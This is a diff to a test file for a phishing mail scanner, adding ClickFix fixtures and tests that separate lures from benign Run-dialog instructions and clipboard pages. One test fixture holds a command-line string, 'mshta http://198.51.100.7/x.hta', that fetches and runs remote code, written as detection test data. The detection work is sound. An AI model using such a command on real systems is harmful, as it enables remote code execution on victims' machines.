@@ -54,6 +54,9 @@ test.each([
   // "Storage full, your photos will be deleted", from a name claiming the cloud service.
   ["storage-full.eml", ["FROM_BRAND_IMPERSONATION"], ["STORAGE_FULL_LURE", "PHISH_STORAGE_FULL"]],
   ["colleague-address-name.eml", ["FROM_NAME_OTHER_DOMAIN", "FROM_NAME_RCPT_DOMAIN"], ["PHISH_INVOICE_SENDER_LIE"]],
+  // "ClickFix": the mail tells the reader to open the Run dialog and paste; the attached page's button copies a PowerShell line.
+  ["clickfix-body.eml", [], ["CLICKFIX_PASTE_RUN", "PHISH_CLICKFIX"]],
+  ["clickfix-attachment.eml", ["ATTACH_HTML", "ATTACH_HTML_CLIPBOARD_COMMAND", "ATTACH_HTML_SCRIPT"], ["PHISH_HTML_ATTACHMENT"]],
   ["styled-letters.eml", ["FROM_BRAND_IMPERSONATION", "URI_FREE_HOSTED"], ["SUBJ_STYLED_LETTERS", "PHISH_VERIFY_ACCOUNT", "PHISH_SUSPENDED", "PHISH_WORDS_BAD_LINK", "PHISH_WORDS_SENDER_LIE"]],
 ])("%s: the check sees %o; the rules combine them into %o", async (file, traits, metas) => {
   expect(symbols(file)).toEqual(traits);
@@ -75,7 +78,7 @@ test("a brand's own mail (paypal.co.uk, links to paypal.com) raises none of the 
 test("every phishing fixture scores at least probable spam with the shipped rules", async () => {
   // (archive-password.eml is left out: a locked archive with its password is one sign, which
   // some offices give by habit, so alone it stays under the threshold.)
-  for (const f of ["brand-display-name.eml", "lookalike-domain.eml", "lookalike-recipient.eml", "idn-homograph.eml", "html-attachment.eml", "link-tricks.eml", "replyto-freemail-invoice.eml", "qr-code.eml", "qr-image.eml", "qr-image-jpeg.eml", "image-only.eml", "exec-freemail.eml", "rtlo-attachment.eml", "disk-image.eml", "callback-phish.eml", "gift-card-bec.eml", "payroll-diversion.eml", "styled-letters.eml", "colleague-address-name.eml", "pdf-link-lure.eml", "open-redirect.eml", "delivery-fee.eml", "storage-full.eml", "pdf-qr-lure.eml"]) {
+  for (const f of ["brand-display-name.eml", "lookalike-domain.eml", "lookalike-recipient.eml", "idn-homograph.eml", "html-attachment.eml", "link-tricks.eml", "replyto-freemail-invoice.eml", "qr-code.eml", "qr-image.eml", "qr-image-jpeg.eml", "image-only.eml", "exec-freemail.eml", "rtlo-attachment.eml", "disk-image.eml", "callback-phish.eml", "gift-card-bec.eml", "payroll-diversion.eml", "styled-letters.eml", "colleague-address-name.eml", "pdf-link-lure.eml", "open-redirect.eml", "delivery-fee.eml", "storage-full.eml", "pdf-qr-lure.eml", "clickfix-body.eml", "clickfix-attachment.eml"]) {
     expect({ f, status: (await hits(f)).status }).not.toEqual({ f, status: "not_detected" });
   }
 });
@@ -95,6 +98,16 @@ test("an honest receipt with a phone number and an amount is no callback lure; a
   const r = await scan(engine, { id: "archive", envelope: { rcpt: ["user@example.com"] }, raw: new TextEncoder().encode(text) });
   expect(r.hits.map((h) => h.name)).not.toContain("ATTACH_ARCHIVE_PASSWORD");
   expect([...phishingSymbols(parseMessageSync(new TextEncoder().encode(text), defaults().scan))]).toEqual(["ATTACH_ARCHIVE"]);
+});
+
+test("ClickFix is neither a help desk's Run-dialog instructions nor a page that copies a coupon code or documents PowerShell", async () => {
+  const mail = (body: string) => new TextEncoder().encode(`From: "IT Service Desk" <servicedesk@example.com>\nTo: user@example.com\nSubject: Mapping the scans folder\nDate: Fri, 04 Dec 2026 09:00:00 +0000\nMessage-ID: <it-1@example.com>\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n${body}\n`);
+  const helpDesk = await scan(engine, { id: "it", envelope: { rcpt: ["user@example.com"] }, raw: mail("Hello,\n\nto open the scans folder, press Windows + R, type \\\\fileserver\\scans and press Enter.\n\nIT Service Desk") });
+  expect(helpDesk.hits.map((h) => h.name).filter((n) => n.includes("CLICKFIX"))).toEqual([]);
+  const page = (html: string) => [...phishingSymbols(parseMessageSync(new TextEncoder().encode(`From: a@example.com\nTo: user@example.com\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nsee attached\n--b\nContent-Type: text/html; name="page.html"\nContent-Disposition: attachment; filename="page.html"\n\n${html}\n--b--\n`), defaults().scan))];
+  expect(page('<button onclick="navigator.clipboard.writeText(\'SAVE20\')">Copy your coupon code</button>')).not.toContain("ATTACH_HTML_CLIPBOARD_COMMAND");
+  expect(page("<h1>Get-ChildItem in PowerShell</h1><pre>powershell -NoProfile -Command Get-ChildItem</pre>")).not.toContain("ATTACH_HTML_CLIPBOARD_COMMAND");
+  expect(page('<script>document.execCommand("copy")</script><p>mshta http://198.51.100.7/x.hta</p>')).toContain("ATTACH_HTML_CLIPBOARD_COMMAND");
 });
 
 test("a bidirectional control anywhere in an attachment's name is named, an ordinary name is not", () => {
